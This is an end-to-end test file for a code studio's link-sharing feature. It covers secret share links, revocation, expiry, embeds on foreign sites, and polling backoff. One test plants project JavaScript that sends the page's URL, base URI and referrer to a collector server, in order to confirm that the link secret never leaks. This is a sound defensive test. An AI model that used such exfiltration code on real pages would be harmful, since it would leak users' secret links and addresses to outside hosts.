import { embedGone } from '@studio/contract/embed';
import { projectRoutes } from '@studio/contract/http/projects';
import { linkRoutes } from '@studio/contract/links';
import { register, storeProject } from '../../fixtures/accounts.ts';
import { followsLink, refuseFirstWatch, revokedWithin } from '../../fixtures/links.ts';
import { inspectEveryLook } from '../../fixtures/looks.ts';
import { expect, test } from '../../fixtures/test.ts';
import { callApi } from '../../stack/api.ts';
import { serveForeignSite } from '../../stack/network/foreign-site.ts';

const draft = { title: 'Surprise', html: '<h1>for friends</h1>', js: 'document.title = document.referrer' };

test('H85 a private project opens by a link to a friend without an account, and leaves every open page once that is revoked', {
  tag: '@smoke',
}, async ({ studio, account, open, visit }) => {
  const { id } = await storeProject(studio, account, draft);
  const studioPage = await open(account, `/project/${id}`);
  await studioPage.loaded();
  const { page } = studioPage;
  await page.getByRole('button', { name: 'Private', exact: true }).click();
  await page.getByRole('menuitem', { name: 'By link' }).click();
  const dialog = page.getByRole('dialog', { name: 'Links' });
  await dialog.getByLabel('Name').fill('Friends');
  await page.keyboard.press('Enter');
  await expect(dialog.getByRole('list', { name: 'Links' })).toContainText('Friends');
  const { token } = account;
  const { links } = await callApi(studio.url, linkRoutes.listLinks, { token, params: { id } });
  const address = `${studio.url}/s/${links[0]?.secret}`;
  await page.keyboard.press('Escape');
  await expect(page.getByRole('button', { name: 'By link', exact: true })).toBeVisible();

  const friend = await visit('about:blank');
  const sent: string[] = [];
  friend.on('request', (request) => sent.push(request.headers()['referer'] ?? ''));
  const linked = followsLink(friend);
  await friend.goto(address);
  await expect(friend.getByRole('heading', { name: 'Surprise' })).toBeVisible();
  const running = friend.frameLocator('iframe[title="Live Preview"]').getByRole('heading');
  await expect(running).toHaveText('for friends');
  await friend.getByRole('button', { name: 'Code' }).click();
  await expect(friend.getByLabel('HTML')).toHaveValue(draft.html);
  await linked;

  const site = await serveForeignSite(
    `<iframe id="plain" src="${address}/embed"></iframe><iframe id="strict" sandbox="allow-scripts" src="${address}/embed"></iframe>`,
  );
  const blog = await visit('about:blank');
  const embedded = followsLink(blog);
  const strictScript = blog.waitForResponse((response) => response.url().endsWith('/embed/status'));
  await blog.goto(site.url);
  const [plain, strict] = [blog.frameLocator('#plain'), blog.frameLocator('#strict')];
  await expect(plain.frameLocator('iframe').getByRole('heading')).toHaveText('for friends');
  await expect(strict.frameLocator('iframe').getByRole('heading')).toHaveText('for friends');
  await expect(strict.getByText('Loading project...')).toBeHidden();
  await strictScript;
  await embedded;

  await page.getByRole('button', { name: 'By link', exact: true }).click();
  await page.getByRole('menuitem', { name: 'By link' }).click();
  await expect(dialog).toContainText('1 view');
  await dialog.getByRole('button', { name: 'Revoke' }).click();
  await page.getByRole('alertdialog').getByRole('button', { name: 'Revoke' }).click();
  const within = { timeout: revokedWithin };
  await Promise.all([
    expect(friend.getByText('Project not found')).toBeVisible(within),
    ...[plain, strict].map((embed) => expect(embed.getByText('Project Not Available')).toBeVisible(within)),
  ]);
  await expect(friend.getByLabel('HTML')).toBeHidden();
  await expect(friend.locator('iframe')).toHaveCount(0);
  expect(sent.filter((referer) => referer.includes('/s/'))).toEqual([]);

  await page.keyboard.press('Escape');
  await expect(page.getByRole('button', { name: 'Private', exact: true })).toBeVisible();
  await friend.reload();
  await expect(friend.getByText('Project not found')).toBeVisible();
  await site.close();
});

test('a signed-in user forks a project opened by a link, on a narrow screen and by keyboard', async ({
  studio,
  account,
  open,
}) => {
  const { id } = await storeProject(studio, account, draft);
  const { secret } = await callApi(studio.url, linkRoutes.createLink, {
    token: account.token,
    params: { id },
    body: { name: 'Class' },
  });
  const person = await register(studio, 'reader');
  const reader = await open(person, `/s/${secret}`);
  const { page } = reader;
  await page.setViewportSize({ width: 360, height: 640 });
  await expect(page.frameLocator('iframe[title="Live Preview"]').getByRole('heading')).toHaveText(
    'for friends',
  );
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(360);
  await page.getByRole('button', { name: 'Fork' }).focus();
  // The second press, while the fork is under way, makes no other.
  await page.keyboard.press('Enter');
  await page.keyboard.press('Enter');
  await expect(reader.title).toHaveValue('Surprise');
  await expect(page).toHaveURL(/\/project\/[0-9a-z]{16}$/);
  await expect(page.getByRole('button', { name: 'Private', exact: true })).toBeVisible();
  const own = await callApi(studio.url, projectRoutes.listProjects, { token: person.token });
  expect(own.total).toBe(1);
});

test('H85 a project opened by a link leaves the page and the embeds when the link expires, without another request', async ({
  studio,
  account,
  visit,
}) => {
  const { id } = await storeProject(studio, account, draft);
  const lifetime = 12_000;
  const ends = Date.now() + lifetime;
  const { secret } = await callApi(studio.url, linkRoutes.createLink, {
    token: account.token,
    params: { id },
    body: { name: 'For a moment', expiresAt: new Date(ends).toISOString() },
  });
  const address = `${studio.url}/s/${secret}`;
  const friend = await visit('about:blank');
  const site = await serveForeignSite(
    `<iframe id="plain" src="${address}/embed"></iframe><iframe id="strict" sandbox="allow-scripts" src="${address}/embed?tabs=html"></iframe>`,
  );
  const blog = await visit('about:blank');
  const following = [followsLink(friend), followsLink(blog)];
  await Promise.all([friend.goto(address), blog.goto(site.url), ...following]);
  const [plain, strict] = [blog.frameLocator('#plain'), blog.frameLocator('#strict')];
  await expect(friend.frameLocator('iframe[title="Live Preview"]').getByRole('heading')).toBeVisible();
  await expect(plain.frameLocator('iframe').getByRole('heading')).toHaveText('for friends');
  await expect(strict.getByRole('tabpanel')).toContainText('for friends');
  expect(Date.now()).toBeLessThan(ends);

  const within = { timeout: ends - Date.now() + 3_000 };
  await Promise.all([
    expect(friend.getByText('Project not found')).toBeVisible(within),
    ...[plain, strict].map((embed) => expect(embed.getByText('Project Not Available')).toBeVisible(within)),
  ]);
  await expect(friend.locator('iframe')).toHaveCount(0);
  await site.close();
});

test('H85 an embed by link whose watch the server refuses for a moment checks its link, and asks again until it is accepted', async ({
  studio,
  account,
  visit,
}) => {
  const { id } = await storeProject(studio, account, draft);
  const { token } = account;
  const link = await callApi(studio.url, linkRoutes.createLink, {
    token,
    params: { id },
    body: { name: 'Friends' },
  });
  const site = await serveForeignSite(`<iframe src="${studio.url}/s/${link.secret}/embed"></iframe>`);
  const blog = await visit('about:blank');
  const watches = await refuseFirstWatch(blog);
  await blog.goto(site.url);
  const embed = blog.frameLocator('iframe');
  await expect(embed.frameLocator('iframe').getByRole('heading')).toHaveText('for friends');
  await watches.refused;
  // The first one follows the refusal.
  for (const _ of [1, 2]) await blog.waitForResponse((response) => response.url().endsWith('/embed/status'));
  await watches.accepted;

  await blog.route('**/embed/status', (route) => route.abort());
  await callApi(studio.url, linkRoutes.revokeLink, { token, params: { id, linkId: link.id } });
  await expect(embed.getByText('Project Not Available')).toBeVisible({ timeout: revokedWithin });
  await site.close();
});

test('H85 an embed by link without a socket asks one thing at a time, and waits as the server says or longer each time', async ({
  studio,
  account,
  visit,
}) => {
  const { id } = await storeProject(studio, account, draft);
  const { secret } = await callApi(studio.url, linkRoutes.createLink, {
    token: account.token,
    params: { id },
    body: { name: 'Friends' },
  });
  const page = await visit('about:blank');
  await page.routeWebSocket(/\/socket\.io\//, (socket) => socket.close());
  const gone = { status: 404, body: embedGone.title };
  const responses = [
    { status: 429, headers: { 'Retry-After': '60' } },
    { status: 503 },
    { status: 503 },
    gone,
  ];
  let asked = 0;
  await page.route('**/embed/status', (route) => {
    asked += 1;
    return route.fulfill(responses[asked - 1] ?? gone);
  });
  await page.addInitScript(() => {
    const { fetch } = window;
    window.fetch = async (...given) => {
      const response = await fetch(...given);
      document.documentElement.dataset['answers'] = `${document.documentElement.dataset['answers'] ?? ''}x`;
      return response;
    };
  });
  const handled = page.locator('html[data-answers]');
  await page.clock.install({ time: 0 });
  await page.clock.pauseAt(1_000);
  await page.goto(`${studio.url}/s/${secret}/embed`);
  await expect(async () => {
    await page.clock.runFor(1_000);
    await expect(handled).toHaveAttribute('data-answers', 'x', { timeout: 1 });
  }).toPass();
  for (const [count, before, after] of [
    [1, 58_000, 3_000],
    [2, 1_000, 4_000],
    [3, 4_000, 5_000],
  ] as const) {
    await page.clock.runFor(before);
    expect(asked).toBe(count);
    await page.clock.runFor(after);
    await expect(handled).toHaveAttribute('data-answers', 'x'.repeat(count + 1));
  }
  await expect(page.getByText('Project Not Available')).toBeVisible();
  expect(asked).toBe(4);
});

test('H85 code in an embed by link cannot read an address that opens the project, and runs again after a reload', async ({
  studio,
  account,
  visit,
}) => {
  const collector = await serveForeignSite('');
  const { id } = await storeProject(studio, account, {
    html: '<meta name="referrer" content="unsafe-url"><h1>for friends</h1><button onclick="location.reload()">Again</button>',
    js: `const { href } = location;
      fetch('${collector.url}?' + encodeURIComponent([href, document.URL, document.baseURI, document.referrer]), { mode: 'no-cors' });
      document.querySelector('h1').id = 'at' + performance.timeOrigin;`,
  });
  const { secret } = await callApi(studio.url, linkRoutes.createLink, {
    token: account.token,
    params: { id },
    body: { name: 'Friends' },
  });
  const embed = `${studio.url}/s/${secret}/embed`;
  const site = await serveForeignSite(
    `<iframe id="plain" src="${embed}"></iframe><iframe id="strict" sandbox="allow-scripts" src="${embed}"></iframe>`,
  );
  const blog = await visit('about:blank');
  const sent: string[] = [];
  blog.on('request', (request) => {
    if (request.url().startsWith(collector.url))
      sent.push(`${request.url()} ${request.headers()['referer']}`);
  });
  await blog.goto(site.url);
  await expect.poll(() => sent.length).toBe(2);
  const project = blog.frameLocator('#plain').frameLocator('iframe');
  const before = await project.getByRole('heading').getAttribute('id');
  await project.getByRole('button', { name: 'Again' }).click();
  await expect(project.getByRole('heading')).not.toHaveId(before ?? '');
  await expect.poll(() => sent.length).toBe(3);
  for (const request of sent) {
    expect(request).not.toContain(secret);
    expect(decodeURIComponent(request)).not.toContain('link=');
  }
  await Promise.all([site.close(), collector.close()]);
});

test('the dialog of links stands in every look, whatever the names are', async ({
  studio,
  account,
  open,
}) => {
  const { id } = await storeProject(studio, account, draft);
  for (const name of ['Friends', 'W'.repeat(60), '\u0645\u0631\u062d\u0628\u0627'])
    await callApi(studio.url, linkRoutes.createLink, {
      token: account.token,
      params: { id },
      body: { name },
    });
  const studioPage = await open(account, `/project/${id}`);
  await studioPage.loaded();
  const { page } = studioPage;
  await page.getByRole('button', { name: 'By link', exact: true }).click();
  await page.getByRole('menuitem', { name: 'By link' }).click();
  const dialog = page.getByRole('dialog', { name: 'Links' });
  await expect(dialog.getByRole('listitem')).toHaveCount(3);
  for (const row of await dialog.getByRole('listitem').all())
    await expect(row.getByRole('button', { name: 'Revoke' })).toBeInViewport({ ratio: 1 });
  await expect(dialog.getByRole('button', { name: 'Create link' })).toBeInViewport({ ratio: 1 });
  await inspectEveryLook(page, 'links', '[role=dialog]');
});
